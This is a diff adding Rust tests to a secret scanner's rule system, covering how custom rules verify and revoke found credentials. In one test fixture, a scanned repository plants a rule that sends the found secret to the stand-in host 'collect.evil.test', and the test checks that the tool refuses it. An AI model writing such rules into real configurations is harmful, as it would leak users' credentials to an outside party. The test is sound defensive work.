@@ -128,6 +128,73 @@ fn files_and_directories_are_added_to_the_built_in_rules() {
     );
 }
 
+/// [`OWN`], and whom to ask about what it finds.
+fn asks(host: &str) -> String {
+    format!(
+        "{OWN}\n[rules.verify]\ntrust = 'V'\nrequest = {{ url = 'https://{host}/me', headers = {{ x = '{{secret}}' }} }}\n\
+         when = [{{ status = 200, has = ['/id'], means = 'live' }}]\n"
+    )
+}
+
+#[test]
+fn rules_say_what_can_be_done() {
+    let sandbox = Sandbox::repository();
+    sandbox.write("../rules.toml", asks("api.acme.test"));
+    let files = ["--rules", "../rules.toml", "--no-builtin-rules"];
+    let list = sandbox.muzzle([&["rules", "list"], &files[..]].concat());
+    assert!(String::from_utf8(list.stdout).unwrap().contains("Acme token  [verify]\n"));
+    let show = sandbox.muzzle([&["rules", "show", "acme-token"], &files[..]].concat());
+    assert!(String::from_utf8(show.stdout).unwrap().contains("verify: GET https://api.acme.test/me"));
+    let list = sandbox.muzzle([&["rules", "list", "--json"], &files[..]].concat());
+    let list: Value = serde_json::from_slice(&list.stdout).unwrap();
+    assert_eq!(list[0]["verify"]["call"], "GET https://api.acme.test/me");
+    let show = sandbox.muzzle(["rules", "show", RULE]);
+    let shown = String::from_utf8(show.stdout).unwrap();
+    assert!(shown.contains("verify: GET https://") && shown.contains("revoke: by anyone"), "{shown}");
+}
+
+#[test]
+fn mistakes_in_what_can_be_done_are_told_with_their_place() {
+    let sandbox = Sandbox::repository();
+    let bare = asks("api.acme.test").replace("has = ['/id'], ", "");
+    let error = sandbox.error_of(&bare);
+    assert!(
+        error.contains("rules.toml:12:1: rule `acme-token`: `verify`: [200] is no proof of live"),
+        "{error}"
+    );
+    let error = sandbox.error_of(&asks("127.0.0.1"));
+    assert!(error.contains("127.0.0.1"), "{error}");
+    let module = format!("{OWN}\n[rules.verify]\ntrust = 'V'\nmodule = 'telepathy'\n");
+    sandbox.write("../rules.toml", module);
+    let checked = sandbox.muzzle(["rules", "check", "../rules.toml"]);
+    assert!(String::from_utf8(checked.stdout).unwrap().contains("there is no module `telepathy`"));
+}
+
+/// A repository that plants its own host for its own rule is not heard, and the report says so.
+#[test]
+fn rules_of_the_scanned_tree_do_not_say_whom_to_ask() {
+    let sandbox = Sandbox::repository();
+    sandbox.write("rules.toml", asks("collect.evil.test"));
+    sandbox.write("muzzle.toml", "[rules]\nfiles = ['rules.toml']\n");
+    sandbox.write("a", acme("a"));
+    let told = |scan: &Scan| {
+        let notices = scan.report["policy"]["notices"].as_array().cloned().unwrap_or_default();
+        notices.iter().filter(|notice| notice.to_string().contains("verify, revoke and rotate in")).count()
+    };
+    let scan = sandbox.scan(&[]);
+    assert_eq!(told(&scan), 1, "{}", scan.report["policy"]);
+    assert!(scan.report.to_string().contains("acme-token"));
+    // By a flag, it is the user's own word; in a pipeline it is not.
+    std::fs::remove_file(sandbox.path("muzzle.toml")).unwrap();
+    let named = ["scan", ".", "--rules", "rules.toml", "-o", "json"];
+    let run = crate::support::run(&mut sandbox.command(named), b"");
+    let heard =
+        |run: crate::support::Run| !String::from_utf8(run.stdout).unwrap().contains("revoke and rotate in");
+    assert!(heard(run));
+    let run = crate::support::run(sandbox.command(named).env("CI", "true"), b"");
+    assert!(!heard(run));
+}
+
 #[test]
 fn what_allowlists_name_is_dropped_and_counted() {
     let sandbox = Sandbox::repository();
